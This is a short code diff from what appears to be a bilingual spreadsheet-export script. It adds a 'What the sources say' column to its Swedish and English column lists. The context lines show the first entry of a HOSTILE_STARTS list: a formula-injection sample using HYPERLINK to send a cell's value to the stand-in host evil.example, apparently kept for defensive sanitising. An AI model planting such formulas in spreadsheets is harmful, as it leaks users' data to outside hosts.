@@ -38,6 +38,7 @@ SV_COLUMNS = [
     "Status i dag",
     "Uppföljningens datum",
     "Uppföljningens källa",
+    "Vad källorna säger",
 ]
 EN_COLUMNS = [
     "id",
@@ -58,6 +59,7 @@ EN_COLUMNS = [
     "Status today",
     "Follow-up date",
     "Follow-up source",
+    "What the sources say",
 ]
 HOSTILE_STARTS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")',
